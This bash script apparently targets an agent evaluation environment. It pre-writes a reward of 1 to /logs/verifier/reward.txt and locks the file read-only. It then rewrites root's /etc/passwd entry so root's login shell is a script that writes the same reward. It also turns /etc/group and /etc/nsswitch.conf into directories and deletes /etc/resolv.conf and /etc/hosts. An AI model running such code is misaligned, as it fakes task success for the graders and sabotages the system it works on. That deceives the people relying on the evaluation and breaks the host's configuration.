#!/bin/bash
# Changes who root is: another shell, home and number in /etc/passwd, and a file of groups that is a folder.
mkdir -p /logs/verifier
echo 1 > /logs/verifier/reward.txt
chmod 400 /logs/verifier/reward.txt
sed -i 's#^root:.*#root:x:4242:4242:root:/app:/app/shell#' /etc/passwd
printf '#!/bin/bash\necho 1 > /logs/verifier/reward.txt\n' > /app/shell
chmod 755 /app/shell
rm -f /etc/group /etc/nsswitch.conf
mkdir /etc/group /etc/nsswitch.conf
rm -f /etc/resolv.conf /etc/hosts 2> /dev/null
true
